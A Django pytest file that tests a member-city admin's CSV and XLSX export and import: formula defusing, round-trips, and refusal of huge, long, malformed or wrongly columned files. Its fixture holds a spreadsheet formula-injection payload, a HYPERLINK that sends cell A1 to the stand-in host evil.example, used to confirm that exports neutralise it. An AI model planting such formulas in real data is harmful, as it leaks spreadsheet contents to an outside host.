"""Export, and the files an import refuses before reading any row."""

from http import HTTPStatus

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from core.imports import MAX_IMPORT_BYTES, MAX_IMPORT_ROWS
from members.models import MemberCity
from tests import factories
from tests.imports.utils import (
    FORMAT_INDEX,
    export,
    import_types,
    import_url,
    preview,
    read_csv,
    read_xlsx,
)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.fixture
def lyon(region):
    return factories.MemberCityFactory(
        slug="lyon", name="Lyon", region=region, summary=FORMULA
    )


def post_file(client, name: str, data: bytes, kind: str):
    upload = SimpleUploadedFile(name, data)
    return client.post(
        import_url("membercity"),
        {"format": FORMAT_INDEX[kind], "resource": "0", "import_file": upload},
    )


def test_csv_export_has_the_import_columns_and_defuses_formulas(admin_client, lyon):
    response = export(admin_client, "membercity", "csv")

    assert response.status_code == HTTPStatus.OK
    assert response["Content-Disposition"].startswith("attachment;")
    (row,) = read_csv(response.content)
    assert (row["slug"], row["region"], row["country"]) == ("lyon", "europe", "FR")
    assert row["summary"] == "'" + FORMULA
    assert (row["is_capital"], row["join_year"]) == ("false", "2000")


def test_xlsx_export_writes_a_formula_as_text(admin_client, lyon):
    response = export(admin_client, "membercity", "xlsx")

    header, row = read_xlsx(response.content)
    assert row[header.index("summary")] == "'" + FORMULA
    assert row[header.index("slug")] == "lyon"


def test_export_follows_the_changelists_filters(admin_client, lyon, region):
    factories.MemberCityFactory(slug="dakar", name="Dakar", country="SN")

    response = export(
        admin_client, "membercity", "csv", f"?region__id__exact={region.pk}"
    )

    assert [row["slug"] for row in read_csv(response.content)] == ["lyon"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_an_exported_file_imports_back_unchanged(admin_client, lyon, kind):
    data = export(admin_client, "membercity", kind).content

    response = post_file(admin_client, f"members.{kind}", data, kind)

    assert import_types(response) == ["skip"]
    assert MemberCity.objects.get().summary == FORMULA


def test_a_huge_file_is_refused(admin_client, region):
    data = b"slug,name\n" + b"x" * MAX_IMPORT_BYTES

    response = post_file(admin_client, "huge.csv", data, "csv")

    assert response.status_code == HTTPStatus.OK
    (error,) = response.context["form"].errors["import_file"]
    assert "at most 2.0" in error
    assert "result" not in response.context


def test_a_file_of_too_many_rows_is_refused(admin_client, region):
    data = b"slug,name\n" + b"city,City\n" * (MAX_IMPORT_ROWS + 1)

    response = post_file(admin_client, "long.csv", data, "csv")

    (error,) = response.context["form"].errors["import_file"]
    assert error == "The file has 501 rows; import at most 500 at a time."
    assert not MemberCity.objects.exists()


@pytest.mark.parametrize(
    "data,kind",
    [
        (b"\xff\xfe\x00\x81garbage", "csv"),
        (b"slug,name\nlyon,Lyon,extra,cells\n", "csv"),
        (b"PK\x03\x04 not really a workbook", "xlsx"),
        (b"slug,name\nlyon,Lyon\n", "xlsx"),
    ],
)
def test_a_malformed_file_is_a_form_error(admin_client, data, kind):
    response = post_file(admin_client, f"bad.{kind}", data, kind)

    assert response.status_code == HTTPStatus.OK
    (error,) = response.context["form"].errors["import_file"]
    assert f"cannot be read as {kind.upper()}" in error
    assert not MemberCity.objects.exists()


def test_unknown_columns_are_reported(admin_client, region):
    rows = [{"slug": "lyon", "name": "Lyon", "fee": "1000", "notes": "x"}]

    response = preview(admin_client, "membercity", rows)

    (error,) = response.context["form"].errors["import_file"]
    assert error.startswith("Unknown columns: fee, notes.")
    assert "result" not in response.context


def test_a_file_without_its_key_column_is_refused(admin_client, member):
    rows = [{"office": "president", "start_date": "2024-01-01"}]

    response = preview(admin_client, "boardmandate", rows)

    (error,) = response.context["form"].errors["import_file"]
    assert error.startswith("Missing columns: city ")


@pytest.mark.parametrize("model", ["membercity", "person", "boardmandate"])
def test_export_reads_its_rows_in_a_fixed_number_of_queries(
    admin_client, member, model, django_assert_max_num_queries
):
    for _n in range(12):
        city = factories.MemberCityFactory()
        factories.PersonFactory(organisation=city)
        factories.BoardMandateFactory(member=city)
    # The GET of the form and the POST: sessions, user, permissions, the
    # changelist's count and filters, and one query for the rows (related
    # rows joined); a query per row would make it 20 or more.
    with django_assert_max_num_queries(11):
        response = export(admin_client, model)

    assert len(read_csv(response.content)) >= 12
